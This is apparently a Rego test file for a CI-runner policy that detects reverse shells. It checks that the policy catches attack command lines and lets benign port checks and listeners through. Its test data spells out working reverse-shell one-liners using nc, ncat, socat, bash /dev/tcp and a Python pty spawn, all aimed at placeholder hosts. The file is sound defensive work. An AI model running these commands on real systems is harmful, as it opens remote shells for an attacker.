package sallyport.policies.reverse_shell_test

import data.sallyport.policies.reverse_shell

process(arguments) := {
	"executable": sprintf("/usr/bin/%s", [arguments[0]]), "script": "", "arguments": arguments, "executable_sha256": "",
	"executable_in_memory": false, "executable_deleted": false, "working_directory": "/home/runner/work/shop/shop", "uid": 1001, "effective_uid": 1001,
}

run(arguments, ancestry) := {
	"behaviour": {"kind": "exec", "program": arguments[0], "target": sprintf("/usr/bin/%s", [arguments[0]])},
	"process": process(arguments), "ancestry": [process(a) | some a in ancestry], "job": {"event": "push", "repository": "acme/shop", "action": ""},
	"baseline": {"stable": true, "known": true, "program_known": true, "reopened": ""},
}

on_socket(arguments, ancestry, input_inode, output_inode) := object.union(run(arguments, ancestry), {"process": {
	"standard_input": {"kind": "socket", "inode": input_inode}, "standard_output": {"kind": "socket", "inode": output_inode},
}})

test_shell_on_one_socket_is_caught if {
	every arguments in [["bash", "-i"], ["sh"], ["python3", "-c", "x"], ["perl"]] {
		count(reverse_shell.violation) == 1 with input as on_socket(arguments, [["node", "x.js"]], 5, 5)
	}
}

test_command_lines_are_caught if {
	every arguments in [
		["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], ["ncat", "198.51.100.7", "4444", "-e", "/bin/bash"], ["nc", "-c", "bash", "x.example.test", "1"],
		["socat", "exec:bash -li,pty,stderr", "tcp:198.51.100.7:4444"], ["socat", "TCP4:x.example.test:1", "EXEC:/bin/sh"],
		["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], ["bash", "-c", "exec 5<>/dev/tcp/x/1; while read l <&5; do $l; done"],
		["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('x',1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"],
	] {
		count(reverse_shell.violation) > 0 with input as run(arguments, [])
	}
}

test_shell_of_node_has_two_sockets_and_is_clean if {
	count(reverse_shell.violation) == 0 with input as on_socket(["sh", "-c", "make"], [["node", "gulp.js"]], 5, 6)
}

test_login_over_ssh_is_clean if {
	count(reverse_shell.violation) == 0 with input as on_socket(["bash", "-c", "uptime"], [["sshd"]], 5, 5)
}

test_program_that_serves_a_socket_is_clean if {
	count(reverse_shell.violation) == 0 with input as on_socket(["node", "worker.js"], [["node", "x.js"]], 5, 5)
}

test_waiting_for_a_port_is_clean if {
	every arguments in [
		["bash", "-c", "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done"], ["timeout", "30", "bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"],
		["nc", "-z", "localhost", "8080"], ["nc", "-l", "8080"], ["nc", "-w", "1", "db.example.test", "5432"], ["socat", "TCP-LISTEN:80,fork", "TCP:localhost:8080"],
		["python3", "-c", "import socket; socket.create_connection(('localhost', 5432))"], ["grep", "-r", "bash -i >& /dev/tcp/x/1 0>&1", "."],
	] {
		count(reverse_shell.violation) == 0 with input as run(arguments, [])
	}
}
